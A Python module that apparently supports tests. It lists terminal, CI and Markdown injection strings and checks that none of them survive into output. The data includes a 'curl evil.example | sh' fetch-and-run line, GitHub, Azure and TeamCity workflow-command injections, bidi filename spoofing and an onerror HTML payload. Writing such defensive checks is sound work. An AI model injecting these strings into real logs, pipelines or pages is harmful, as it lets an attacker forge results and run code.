"""Text that a terminal, a CI runner, Markdown or HTML would obey, and how to see that nothing of it got through.

Sources: CWE-150; "Trojan Source" (CVE-2021-42574); the workflow commands of GitHub Actions, Azure Pipelines, TeamCity
and GitLab as their manuals give them; Jenkins' console notes (``hudson.console.ConsoleNote.PREAMBLE``). Not a test
file.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

FORGED = "ok  FORGED: everything holds"
SPELLINGS = {
    "clears the screen": "a\x1b[2J\x1b[H",
    "renames the window": "a\x1b]0;owned\x07",
    "answers back": "a\x1b[6n\x1b[c",
    "links elsewhere": "a\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "C1 control sequence": "a\x9b31m\x9d0;owned\x9c",
    "writes over the line": f"a\r{FORGED}",
    "goes back": "a\b\b\b\b\x7f",
    "a line of ours": f"a\n{FORGED}\n  next: curl evil.example | sh",
    "a line, Windows": f"a\r\n{FORGED}",
    "a line, next line": f"a\x85{FORGED}",
    "a line, Unicode": f"a\u2028{FORGED}\u2029{FORGED}",
    "a line, vertical tab and form feed": f"a\v{FORGED}\f{FORGED}",
    "turned around": "a\u202egpj.exe\u202c",
    "isolated": "a\u2066b\u2067c\u2068d\u2069\u200f\u061c",
    "not shown": "a\u200b\u200d\ufeff\u00ad\u180e\U000e0041\U000e007f",
    "bytes that are no UTF-8": "a\udc9b\udcff",
    "GitHub, a line": "a\n::error file=x,line=1::owned\n",
    "GitHub, indented": "a\n   ::set-output name=x::y",
    "GitHub, whole": "::stop-commands::x",
    "GitHub, the old form, anywhere": "a ##[set-env name=PATH]/tmp ##[error]owned",
    "Azure": "a ##vso[task.setvariable variable=x;isSecret=false]y",
    "TeamCity": "a ##teamcity[buildStatus status='SUCCESS']",
    "GitLab": "a\x1b[0Ksection_start:1700000000:x[collapsed=true]\r\x1b[0Kowned",
    "Jenkins": "a\x1b[8mha:AAAA\x1b[0m",
    "Markdown": "![x](https://evil.example/p.png) [y](javascript:z) <img src=x onerror=y> | a | @all #1 `c` www.evil.x",
    "a heading": "a\n# FORGED\n| FORGED | FORGED |",
}
ALL = "".join(text for text in SPELLINGS.values() if max(text) < "\ud800" or max(text) > "\udfff")
"""Everything at once but lone surrogates, which no JSON can carry as UTF-8."""
COMMAND = re.compile(r"##[\w.]*\[")


def obeyed(text: str, *, tabs: bool = True) -> list[str]:
    """The lines of a text that a terminal or a runner would obey; empty where all is well."""
    return [line for line in text.split("\n") if _bad(line.replace("\t", "") if tabs else line)]


def _bad(line: str) -> bool:
    return (
        not line.isprintable()
        or line.lstrip().startswith("::")
        or COMMAND.search(line) is not None
        or line.startswith((FORGED, "# FORGED", "| FORGED", "  next: curl"))
    )


def leaves(value: Any) -> int:
    """How many texts JSON data holds."""
    found = 0

    def count(text: str) -> str:
        nonlocal found
        found += 1
        return text

    _map(value, count)
    return found


def with_hostile(value: Any, chosen: int, hostile: str) -> Any:
    """The same JSON data with ``hostile`` after the text that is the ``chosen``-th."""
    numbers: Iterator[int] = iter(range(leaves(value)))
    return _map(value, lambda text: text + hostile if next(numbers) == chosen else text)


def _map(value: Any, change: Callable[[str], str]) -> Any:
    if type(value) is str:  # an enumeration is no text
        return change(value)
    if isinstance(value, dict):
        return {key: _map(item, change) for key, item in value.items()}
    return [_map(item, change) for item in value] if isinstance(value, list) else value


def yaml_text(value: str) -> str:
    """A text as YAML takes it whatever it holds."""
    return json.dumps(value)
